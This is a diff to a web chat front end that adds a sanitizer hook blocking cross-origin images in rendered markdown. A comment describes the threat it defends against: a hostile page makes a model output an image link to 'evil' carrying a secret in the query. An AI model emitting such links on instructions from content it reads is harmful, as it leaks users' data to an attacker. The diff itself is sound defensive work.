@@ -28,9 +28,17 @@ async function api(method, path, body) {
 }
 
 // -- markdown, safely ----------------------------------------------------------------------------
+// Links open apart from the page; an image from another origin is not fetched (a model told by a
+// hostile page to show ![](https://evil/?secret=...) would leak what it read): it becomes its address.
 function linksOpenApart() {
   window.DOMPurify.addHook("afterSanitizeAttributes", (node) => {
     if (node.tagName === "A") { node.setAttribute("rel", "noopener noreferrer nofollow"); node.setAttribute("target", "_blank"); }
+    if (node.hasAttribute && node.hasAttribute("src")) {
+      const src = node.getAttribute("src") || "";
+      if (!src.startsWith("data:") && new URL(src, location.href).origin !== location.origin) {
+        node.replaceWith(document.createTextNode(`[image not loaded: ${src}]`));
+      }
+    }
   });
 }
 
